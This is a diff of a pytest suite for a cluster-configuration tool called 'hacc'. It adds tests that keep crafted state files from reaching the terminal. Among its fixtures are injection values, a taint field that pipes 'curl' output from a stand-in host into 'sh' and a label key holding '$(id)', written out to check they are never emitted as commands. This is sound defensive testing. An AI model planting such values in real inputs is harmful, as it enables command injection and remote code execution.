@@ -236,7 +236,7 @@ def test_plan_names_each_extension_change_with_its_live_step(hacc, tmp_path) -> 
     }
 
 
-@pytest.mark.parametrize("bad", ["\u2028", "\x85", "\x1b", "\x00", "\x9b"])
+@pytest.mark.parametrize("bad", ["\u2028", "\x85", "\x1b", "\x00", "\x9b", "\ud800", "\uffff"])
 def test_file_content_and_commands_hold_only_what_yaml_can_carry(hacc, tmp_path, bad) -> None:
     """A character the YAML emitter cannot write is refused where the spec holds it, never a
     crash at build time (the fuzz test found U+2028 in a file's content)."""
@@ -258,11 +258,31 @@ def test_file_content_and_commands_hold_only_what_yaml_can_carry(hacc, tmp_path,
 
 
 @pytest.mark.parametrize(
-    "recorded",
-    [{"w1": ["label a=\x1b[31mred"]}, {"w1": ["label a=\x9b31mred"]}, {"w1": "label a=b"}, []],
-    ids=["esc", "c1-csi", "not-a-list", "not-a-mapping"],
+    ("recorded", "payload"),
+    [
+        ({"w1": ["label a=\x1b[31mred"]}, "\x1b"),
+        ({"w1": ["label a=\x9b31mred"]}, "\x9b"),
+        ({"w1": ["preCommand echo \u202e"]}, "\u202e"),
+        ({"worker-a1": ["taint x=1;curl -s https://example.com/p|sh;:NoSchedule"]}, "curl"),
+        ({"worker-a1": ["label y$(id)=1"]}, "$(id)"),
+        ({"w1": "label a=b"}, None),
+        ({"w1": ["label a=b"] * 2000}, None),
+        ([], None),
+    ],
+    ids=[
+        "esc",
+        "c1-csi",
+        "bidi",
+        "shell-in-taint",
+        "shell-in-label",
+        "not-a-list",
+        "too-many",
+        "not-a-mapping",
+    ],
 )
-def test_a_crafted_state_file_never_reaches_the_terminal(hacc, tmp_path, recorded) -> None:
+def test_a_crafted_state_file_never_reaches_the_terminal(hacc, tmp_path, recorded, payload) -> None:
+    """A record of the wrong shape is ignored whole; an item not of a shape hacc writes is
+    dropped (the node's current items then show as added), never printed as a command."""
     from hacc.output import STATE_FILE
 
     spec = tmp_path / "spec.yaml"
@@ -275,4 +295,56 @@ def test_a_crafted_state_file_never_reaches_the_terminal(hacc, tmp_path, recorde
     state.write_text(json.dumps(doc))
     r = hacc("plan", str(spec), "-o", str(out))
     assert r.code == 0, r.err
-    assert "Extension points" not in r.out and "\x1b" not in r.out and "\x9b" not in r.out
+    if payload is None or payload in ("\x1b", "\x9b", "\u202e"):
+        assert "Extension points" not in r.out
+    assert payload is None or payload not in r.out
+
+
+def test_a_label_key_prefix_is_a_dns_subdomain_of_at_most_253_characters(hacc, tmp_path) -> None:
+    spec = tmp_path / "spec.yaml"
+    for prefix, code in ((("a" * 63 + ".") * 3 + "a" * 61, 0), ("a" * 255, 1)):
+        text = replaced(
+            KEEPALIVED_EXAMPLE.read_text(),
+            "labels: {example.com/site: paris}",
+            f"labels: {{{prefix}/site: paris}}",
+        )
+        spec.write_text(text)
+        r = hacc("validate", str(spec))
+        assert r.code == code, r.err
+        if code:
+            assert "error[HACC104]" in r.err
+
+
+def test_a_proxy_of_only_no_proxy_entries_builds(hacc, tmp_path) -> None:
+    spec = tmp_path / "spec.yaml"
+    text = replaced(
+        KEEPALIVED_EXAMPLE.read_text(),
+        "      http: http://proxy.paris.example.com:3128\n      https: http://proxy.paris.example.com:3128\n",
+        "",
+    )
+    spec.write_text(text)
+    assert hacc("build", str(spec), "-o", str(tmp_path / "out")).code == 0
+    ud = yaml.safe_load((tmp_path / "out/edge-paris-01/nodes/cp1/user-data.yaml").read_text())
+    assert "apt" not in ud
+
+
+def test_apt_installs_the_load_balancer_through_the_proxy() -> None:
+    cluster = cluster_of(KEEPALIVED_EXAMPLE)
+    arts = {a.path: a.content for a in render_cluster(cluster)}
+    ud = yaml.safe_load(arts["nodes/cp1/user-data.yaml"])
+    assert ud["apt"] == {
+        "http_proxy": "http://proxy.paris.example.com:3128",
+        "https_proxy": "http://proxy.paris.example.com:3128",
+    }
+    assert "haproxy" in ud["packages"]
+
+
+def test_a_node_whose_labels_are_refused_holds_back_only_itself(tmp_path) -> None:
+    cluster, go = label_bench(tmp_path)
+    fake = tmp_path / "microk8s"
+    refuse = '[[ $2 != get && " $* " == *" cp-a1 "* ]] && exit 1\nexit 0\n'
+    fake.write_text(replaced(fake.read_text(), "fi\nexit 0\n", "fi\n" + refuse))
+    calls = go(" ".join(n.name for n in cluster.nodes))
+    assert "kubectl label node cp-b1 --overwrite topology.kubernetes.io/zone=eu-fra-b" in calls
+    assert not any(c.startswith("systemctl") for c in calls), "cp-a1 is still to do"
+    assert "cp-a1" not in os.listdir(tmp_path / "done") and "cp-b1" in os.listdir(tmp_path / "done")
